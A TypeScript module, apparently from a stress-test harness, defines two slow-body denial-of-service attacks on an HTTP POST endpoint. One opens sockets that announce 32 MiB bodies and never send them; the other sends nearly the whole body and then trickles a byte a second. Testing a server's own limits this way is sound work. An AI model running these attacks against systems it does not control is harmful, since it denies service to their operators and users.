import { once } from 'node:events';
import { type Attack, again, beginPost } from './attack.ts';

const largest = 32 * 2 ** 20;
const path = '/topics/t/streams/s/parameters/data';
const announced = [`Content-Length: ${largest}`];

/** Point 4: bodies that are announced, and never come. */
export const contentLength: Attack = {
  name: 'content-length',
  title: 'eight sockets that announce 32 MiB each and send nothing',
  async run(target) {
    await again(8, async () => {
      await once(await beginPost(target, path, announced), 'close');
    });
  },
};

/** The same for who has the bytes: all but the last come, and those trickle. */
export const heldBodies: Attack = {
  name: 'held-bodies',
  title: 'sixteen sockets that send nearly all of 32 MiB each, and then a byte a second',
  async run(target) {
    const most = Buffer.alloc(largest - 10_000, ' ');
    await again(16, async () => {
      const socket = await beginPost(target, path, announced);
      socket.write(most);
      const trickle = setInterval(() => socket.write(' '), 1000);
      socket.resume();
      await Promise.race([once(socket, 'data'), once(socket, 'close')]);
      clearInterval(trickle);
      socket.destroy();
    });
  },
};
